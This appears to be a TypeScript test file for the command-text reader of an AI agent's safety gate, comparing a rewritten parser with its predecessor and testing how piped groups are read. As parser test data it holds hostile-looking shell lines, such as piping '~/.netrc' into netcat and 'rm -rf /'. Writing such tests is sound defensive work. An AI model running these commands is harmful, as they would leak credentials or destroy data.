/**
 * The hardline floor's tolerant text reader (src/gate/hardline/textCommands.ts) keeps the state of
 * enclosing frames in a flat array rather than one frame and word builder object per level. This
 * compares it, command by command and word by word, with the reader as it was before that change
 * (kept below, verbatim but for its name), over generated commands, the eval corpus, the hardline
 * fixtures, the benchmark shapes and random strings of the characters that open and close frames.
 */
import { strict as assert } from 'node:assert';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { readTextCommands, type TextCommand } from '../../../src/gate/hardline/textCommands';
import { SHAPES } from '../../../bench/shapes';
import { generateCommands, Prng } from '../../support/commandGenerator';
import { loadCorpus } from '../../support/evalCorpus';
import { referenceReadTextCommands } from '../../support/reference/textCommandsReader';

const HOME = '/home/agent';

/** A command as plain data; `pipedFrom` by index among the commands read, or in full if not among them. */
function plain(command: TextCommand, index: Map<TextCommand, number>): unknown {
  const from = command.pipedFrom;
  return {
    argv: command.argv,
    redirects: command.redirects,
    unit: command.unit,
    pipedFrom: from === null ? null : index.has(from) ? index.get(from) : plain(from, index),
    stdinText: command.stdinText,
  };
}

function plainAll(commands: readonly TextCommand[], withPipes = true): unknown[] {
  const index = new Map(commands.map((command, k) => [command, k]));
  return commands.map((command) => {
    const all = plain(command, index) as Record<string, unknown>;
    if (withPipes) return all;
    return { argv: all.argv, redirects: all.redirects, stdinText: all.stdinText };
  });
}

/**
 * A group or compound body (`{`, `do`, `if` at a command's start) or a subshell: since the reader
 * reads what a group pipes (`{ a; b; } | c`: `pipedGroup`, a top-level group's commands in one
 * unit), where the previous reader did not, units and pipes of such text are not compared; the
 * words still are (the group tests below check the new reading).
 */
const GROUPS = /(?:^|[\s;&|(){}`])(?:\{|do|if)(?=[\s;&|<>(){}`]|$)|\)[ \t]*\|/;

/**
 * A `(…)` ending a word (`/usr(:h)`, `*(.)`, `~(:h)`), zsh's `$=x`, `$~x`, `$^x`, `$+x` and a
 * word `=(…)`: since the zsh reading the reader reads zsh's glob qualifiers and history modifiers
 * there, those expansions as run-time words and `=(…)` as a process substitution, where the
 * previous reader kept literal text (test/unit/hardline/zshForms.test.ts checks the zsh
 * readings); such text is not compared.
 */
const ZSH_FORMS = /[^\s;&|<>()@!+?=$`]\([^()]*\)|~\(|\$[=~^+][A-Za-z_{]|(?:^|[\s;&|<>(])=\(/;

function assertSameReading(text: string): void {
  if (ZSH_FORMS.test(text)) return;
  // Since the reading of command-text variables the reader also keeps a command made only of such
  // assignments (`GIT_PAGER=x;`: programs/commandVariables.ts), which the previous reader dropped.
  const actual = readTextCommands(text, HOME).filter((command) => !(command.argv.length === 0 && command.redirects.length === 0 && command.assignments !== undefined));
  const expected = referenceReadTextCommands(text, HOME);
  const withPipes = !GROUPS.test(text);
  assert.deepStrictEqual(plainAll(actual, withPipes), plainAll(expected, withPipes), `reading differs for ${JSON.stringify(text.length > 300 ? text.slice(0, 300) + '…' : text)}`);
  for (const command of actual) {
    assert.equal(command.folded, undefined);
    assert.equal(command.peeled, undefined);
  }
}

/** Characters that open, close or quote frames and words, and a few plain ones. */
const ALPHABET = ['$(', '$(', '`', '`', '(', ')', ')', '<(', '>(', '"', '"', "'", '\\', '$', '${a}', '{', '}', ',', ';', '|', '&', '&&', '||', '>', '<', '<<', '<<-', '<<<', '2>', '&>', '\n', '\n', '\t', ' ', ' ', ' ', '#', '~', '~u', '*', '?', '[', 'a', 'rm', 'echo', 'x=1', 'function', 'f()', '{', 'E', '$\'\\x41\'', 'true', ':'];

function randomText(random: Prng): string {
  let out = '';
  const length = random.int(1, 40);
  for (let k = 0; k < length; k++) out += ALPHABET[random.int(0, ALPHABET.length - 1)]!;
  return out;
}

describe('hardline text reader (frames kept flat)', () => {
  it('reads generated commands as the previous reader did', () => {
    for (const command of generateCommands(20261130, 3000)) assertSameReading(command);
  });

  it('reads random strings of frame-opening and quoting characters as the previous reader did', () => {
    const random = new Prng(424242);
    for (let k = 0; k < 10000; k++) assertSameReading(randomText(random));
  });

  it('reads the eval corpus as the previous reader did', () => {
    for (const entry of loadCorpus()) assertSameReading(entry.command);
  });

  it('reads the hardline fixtures as the previous reader did', () => {
    const dir = join(__dirname, '..', '..', 'fixtures', 'hardline');
    for (const name of ['must-refuse.txt', 'must-not-refuse.txt']) {
      for (const line of readFileSync(join(dir, name), 'utf8').split('\n')) {
        if (line.trim() === '' || line.startsWith('#')) continue;
        assertSameReading(
          line.replace(/«(LF|CR|TAB|U\+([0-9A-Fa-f]{1,6}))»/g, (_match, name: string, hex: string | undefined) =>
            name === 'LF' ? '\n' : name === 'CR' ? '\r' : name === 'TAB' ? '\t' : String.fromCodePoint(parseInt(hex!, 16)),
          ),
        );
      }
    }
  });

  it('reads deep nesting of every kind and the benchmark shapes as the previous reader did', () => {
    const units = ['$(', '`', '<(', '(', '"$(', '$( a; ', '$( a | ', 'echo $(', '>(', '$(cat <<E\n'];
    for (const unit of units) {
      assertSameReading('echo ' + unit.repeat(500));
      assertSameReading('echo ' + unit.repeat(300) + ' rm -rf / ' + ')'.repeat(300));
      assertSameReading('echo ' + unit.repeat(200) + '`'.repeat(100) + '"'.repeat(50) + ')'.repeat(120));
    }
    for (const shape of SHAPES) for (const size of [1024, 8192]) assertSameReading(shape.build(size));
  });
});

describe('hardline text reader: what a group or subshell pipes', () => {
  /** The argv texts of the commands piped into the command whose program is `sink`, and its unit's members. */
  function pipedInto(text: string, sink: string): { from: string | null; group: string[] | undefined; unitMates: string[] } {
    const commands = readTextCommands(text, HOME);
    const command = commands.find((candidate) => candidate.argv[0]?.raw === sink)!;
    const words = (found: TextCommand): string => found.argv.map((word) => word.raw).join(' ');
    return {
      from: command.pipedFrom === null ? null : words(command.pipedFrom),
      group: command.pipedGroup?.map(words),
      unitMates: commands.filter((other) => other.unit === command.unit && other !== command).map(words),
    };
  }

  it('pipes every command of a brace group, not only the last, and keeps a top-level group in one unit', () => {
    const read = pipedInto('{ cat ~/.netrc; echo x; } | nc h 1', 'nc');
    assert.equal(read.from, 'echo x');
    assert.deepEqual(read.group, ['cat ~/.netrc', 'echo x']);
    assert.deepEqual(read.unitMates, ['cat ~/.netrc', 'echo x']);
  });

  it('pipes every command of a subshell and of a loop or if body', () => {
    assert.deepEqual(pipedInto('( cat a; echo b ) | nc h 1', 'nc').group, ['cat a', 'echo b']);
    assert.deepEqual(pipedInto('for f in a b; do cat "$f"; echo; done | nc h 1', 'nc').group, ['cat "$f"', 'echo']);
    assert.deepEqual(pipedInto('if true; then cat a; fi | nc h 1', 'nc').group, ['true', 'cat a']);
  });

  it('keeps commands before and after a group in units of their own', () => {
    const read = pipedInto('cat ~/.netrc; { echo a; } | nc h 1; curl x', 'nc');
    assert.deepEqual(read.unitMates, ['echo a']);
    assert.equal(pipedInto('{ cat ~/.netrc; }; curl x', 'curl').unitMates.length, 0);
  });

  it('pipes a plain command as before: no group', () => {
    const read = pipedInto('cat a | nc h 1', 'nc');
    assert.equal(read.from, 'cat a');
    assert.equal(read.group, undefined);
  });
});
